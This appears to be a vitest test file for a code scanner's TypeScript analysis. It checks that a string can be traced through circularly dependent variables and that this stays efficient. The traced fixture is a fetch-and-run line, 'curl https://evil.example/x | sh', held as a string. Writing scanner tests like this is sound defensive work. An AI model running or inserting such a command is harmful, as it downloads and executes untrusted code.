import { expect, it } from 'vitest';
import { Memory } from '../../../scanner/frontends/typescript/memory.ts';
import {
  alternatives,
  type JsValue,
  text,
  unionOf,
  unknown,
} from '../../../scanner/frontends/typescript/values/values.ts';

const script = text('curl https://evil.example/x | sh');

/** Variables each of which may be each other; only the last is given a script. */
function variablesInCircle(count: number): { ask(at: number): JsValue; answers(): number } {
  const memory = new Memory({ depth: 0, frames: 0, framed: 0, outermost: 0 });
  const things = Array.from({ length: count }, () => ({}));
  let answers = 0;
  const ask = (at: number): JsValue =>
    memory.once(things[at] ?? things, '', () => {
      answers++;
      return unionOf(
        things.map((_, i) => (i !== at ? ask(i) : at === count - 1 ? script : unknown)),
      );
    });
  return { ask, answers: () => answers };
}

it.each([2, 7, 8, 9, 12, 40])(
  'finds a script behind %i variables that are one another',
  (count) => {
    const { ask } = variablesInCircle(count);
    for (let at = 0; at < count; at++) expect(alternatives(ask(at))).toContain(script);
  },
);

it('answers a large circle in a small multiple of its questions', () => {
  const { ask, answers } = variablesInCircle(100);
  for (let at = 0; at < 100; at++) ask(at);
  expect(answers()).toBeLessThan(10_000);
});

it('gives the same answers in either order: a = b || x, b = a', () => {
  for (const order of [
    ['a', 'b'],
    ['b', 'a'],
  ]) {
    const memory = new Memory({ depth: 0, frames: 0, framed: 0, outermost: 0 });
    const a = {};
    const b = {};
    const ask = (name: string): JsValue =>
      name === 'a'
        ? memory.once(a, '', () => unionOf([ask('b'), script]))
        : memory.once(b, '', () => ask('a'));
    for (const name of order) expect(alternatives(ask(name))).toContain(script);
  }
});
